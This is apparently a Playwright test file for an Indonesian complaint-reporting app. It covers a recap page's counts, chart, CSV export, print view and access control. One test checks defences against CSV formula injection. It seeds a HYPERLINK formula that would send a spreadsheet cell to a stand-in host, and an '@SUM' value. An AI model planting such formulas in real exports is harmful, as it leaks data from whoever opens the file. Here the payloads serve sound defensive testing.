import { expect, test } from '@playwright/test';
import { randomUUID } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { adminId, expectAccessible, SAMPLE_BODY, signIn, submitReport, yesterday } from './helpers';

// The coordinator's recap at 1280×800: the not-yet-followed-up table holds
// the numbers the queue finds by another road, with its chart and its CSV.
test.use({ viewport: { width: 1280, height: 800 }, isMobile: false, hasTouch: false });

test('the recap shows what agencies have not followed up, by category, with a chart and the same numbers in its CSV', async ({
  page,
  request,
}) => {
  // One more report forwarded and waiting in Sekadau, through the API.
  const sent = await request.post('/api/v1/reports', {
    data: {
      kind: 'pengaduan', title: `Jembatan gantung di Nanga Mahap goyah ${Date.now()}`, body: SAMPLE_BODY,
      incident_date: yesterday(), province_code: '61', regency_code: '61.09', reporter_name: 'Agustina Lidia',
      reporter_phone: '0812 3333 4444', idempotency_key: randomUUID(),
    },
  });
  expect(sent.status()).toBe(201);
  const receipt = await sent.json();
  expect((await request.post('/api/v1/auth/login', { data: { username: 'sekadau-pupr', password: 'lapor-demo' } })).ok()).toBeTruthy();
  const agencyId = (await (await request.get('/api/v1/auth/me')).json()).agency_id;
  expect((await request.post('/api/v1/auth/login', { data: { username: 'koordinator', password: 'lapor-demo' } })).ok()).toBeTruthy();
  const id = await adminId(request, { tracking: receipt.tracking_number });
  const categories = (await (await request.get('/api/v1/categories')).json()) as Array<{ id: number; name: string }>;
  const road = categories.find((c) => c.name === 'Infrastruktur jalan')!;
  const res = await request.post(`/api/v1/admin/reports/${id}/actions`, { data: { action: 'dispatch', agency_id: agencyId, category_id: road.id } });
  expect(res.ok(), await res.text()).toBeTruthy();

  // By another road: the queue's forwarded reports in Sekadau, counted per category here.
  const queue = await (await request.get('/api/v1/admin/reports?status=dispatched&regency=61.09&limit=100')).json();
  const expected = new Map<string, number>();
  for (const r of queue.items as Array<{ category: string | null }>) {
    const name = r.category ?? 'Tanpa kategori';
    expected.set(name, (expected.get(name) ?? 0) + 1);
  }
  const total = [...expected.values()].reduce((a, b) => a + b, 0);
  expect(total).toBeGreaterThan(0);

  await signIn(page, 'koordinator');
  await page.getByRole('link', { name: 'Rekap' }).click();
  await expect(page).toHaveURL(/\/admin\/rekap$/);
  await expect(page.getByRole('heading', { name: 'Rekap pengaduan' })).toBeVisible();
  // Everything so far, in Sekadau: the filters go in the address.
  await page.getByLabel('Dari tanggal').fill('2022-01-01');
  await expect(page).toHaveURL(/from=2022-01-01/);
  // The coordinator is West Kalimantan's: its province is fixed.
  await expect(page.getByLabel('Provinsi')).toBeDisabled();
  await expect(page.getByLabel('Provinsi')).toHaveValue('61');
  await page.getByLabel('Kabupaten/kota').selectOption({ label: 'Kabupaten Sekadau' });
  await expect(page).toHaveURL(/regency=61\.09/);
  await expect(page.getByTestId('recap-scope')).toContainText('Kabupaten Sekadau · 2022-01-01');

  const table = page.getByTestId('not-followed-up');
  for (const [name, n] of expected) {
    await expect(table.locator('tbody tr').filter({ has: page.getByRole('rowheader', { name, exact: true }) })).toContainText(String(n));
  }
  await expect(table.locator('tbody tr')).toHaveCount(expected.size);
  await expect(table.locator('tfoot')).toContainText(String(total));
  // Its chart: one bar per row, labelled for screen readers.
  const chart = page.getByRole('img', { name: 'Grafik: belum ditindaklanjuti per kategori' });
  await expect(chart.locator('rect')).toHaveCount(expected.size);
  await expect(page.getByTestId('agencies')).toContainText('Dinas Pekerjaan Umum dan Penataan Ruang');
  await expectAccessible(page, '/admin/rekap');

  // The CSV: a BOM, the same rows and the total.
  const download = page.waitForEvent('download');
  await table.getByRole('button', { name: 'Unduh CSV' }).click();
  const file = await download;
  expect(file.suggestedFilename()).toBe('belum-ditindaklanjuti.csv');
  const text = readFileSync((await file.path())!, 'utf8');
  expect(text.charCodeAt(0)).toBe(0xfeff);
  const lines = text.slice(1).trim().split('\r\n');
  expect(lines[0]).toBe('Kategori,Laporan');
  for (const [name, n] of expected) expect(lines).toContain(`${name.includes(',') ? `"${name}"` : name},${n}`);
  expect(lines.at(-1)).toBe(`Jumlah,${total}`);

  // The print view: A4 landscape, without the console's bar and buttons.
  await page.emulateMedia({ media: 'print' });
  await expect(page.locator('.topbar')).toBeHidden();
  await expect(table.getByRole('button', { name: 'Unduh CSV' })).toBeHidden();
  if (process.env.LAPOR_SHOTS) await page.screenshot({ path: `${process.env.LAPOR_SHOTS}/recap-print.png`, fullPage: true });
  await page.emulateMedia({ media: 'screen' });

  // A period backwards: said under the date, nothing counted, nothing lost.
  await page.getByLabel('Sampai tanggal').fill('2021-12-31');
  await expect(page).toHaveURL(/to=2021-12-31/);
  await expect(page.locator('#err-r-from')).toHaveText('Tanggal awal harus sebelum tanggal akhir.');
  await expect(page.getByLabel('Dari tanggal')).toHaveAttribute('aria-invalid', 'true');
  await expect(page.getByTestId('not-followed-up')).toHaveCount(0);
  await expect(page.getByLabel('Kabupaten/kota')).toHaveValue('61.09');
  await page.getByLabel('Sampai tanggal').fill('2026-12-31');
  await expect(page.locator('#err-r-from')).toHaveCount(0);
  await expect(page.getByTestId('recap-scope')).toContainText('2022-01-01 – 2026-12-31');
});

test('an agency admin is not offered the recap, and is refused it', async ({ page }) => {
  await signIn(page, 'sekadau-pupr');
  await expect(page.getByRole('link', { name: 'Rekap' })).toHaveCount(0);
  await page.goto('/admin/rekap');
  await expect(page.getByRole('alert')).toContainText('Rekap hanya untuk');
});

// The second security review: a regional coordinator names its agency, and a
// superadmin a category, as a spreadsheet formula; the provincial
// coordinator opens every table's CSV in a spreadsheet. No cell may start a
// formula there (OWASP: = + - @ tab CR get a leading '), and numbers stay numbers.
test('no cell of any recap CSV runs as a formula in a spreadsheet', async ({ page, request }) => {
  const stamp = Date.now();
  const formula = `=HYPERLINK("http://contoh.example/?"&A2,"Buka ${stamp}")`;
  expect((await request.post('/api/v1/auth/login', { data: { username: 'superadmin', password: 'lapor-demo' } })).ok()).toBeTruthy();
  const category = await request.post('/api/v1/admin/categories', { data: { name: `@SUM(1+1) ${stamp}` } });
  expect(category.status(), await category.text()).toBe(201);
  const categoryId = (await category.json()).id as number;
  expect((await request.post('/api/v1/auth/login', { data: { username: 'koordinator-sekadau', password: 'lapor-demo' } })).ok()).toBeTruthy();
  const agency = await request.post('/api/v1/admin/agencies', {
    data: { name: formula, level: 'kabupaten', region_code: '61.09', category_ids: [categoryId] },
  });
  expect(agency.status(), await agency.text()).toBe(201);
  const agencyId = (await agency.json()).id as number;
  const receipt = await submitReport(request, `Saluran air di Sekadau Hilir tersumbat ${stamp}`);
  const id = await adminId(request, { tracking: receipt.tracking_number });
  const res = await request.post(`/api/v1/admin/reports/${id}/actions`, { data: { action: 'dispatch', agency_id: agencyId, category_id: categoryId } });
  expect(res.ok(), await res.text()).toBeTruthy();

  await signIn(page, 'koordinator');
  await page.goto('/admin/rekap?from=2022-01-01&regency=61.09');
  await expect(page.getByTestId('agencies')).toContainText(formula);
  const buttons = page.getByRole('button', { name: 'Unduh CSV' });
  const n = await buttons.count();
  expect(n).toBeGreaterThanOrEqual(5);
  const cells: string[] = [];
  for (let i = 0; i < n; i++) {
    const download = page.waitForEvent('download');
    await buttons.nth(i).click();
    const text = readFileSync((await (await download).path())!, 'utf8');
    cells.push(...parseCsv(text.slice(1)));
  }
  // The names arrive whole, made inert; the counts are still numbers.
  expect(cells).toContain(`'@SUM(1+1) ${stamp}`);
  expect(cells.some((c) => c.includes(formula))).toBeTruthy();
  const risky = cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^[+-]?\d+([.,]\d+)?%?$/.test(c));
  expect(risky).toEqual([]);
  expect(cells.filter((c) => /^\d+$/.test(c)).length).toBeGreaterThan(10);
});

/** Every cell of a CSV text (RFC 4180: quoted cells may hold commas, doubled quotes and line breaks). */
function parseCsv(text: string): string[] {
  const cells: string[] = [];
  let cur = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { cur += '"'; i++; } else if (c === '"') quoted = false; else cur += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') { cells.push(cur); cur = ''; }
    else if (c === '\r' && text[i + 1] === '\n') { cells.push(cur); cur = ''; i++; }
    else cur += c;
  }
  if (cur) cells.push(cur);
  return cells;
}
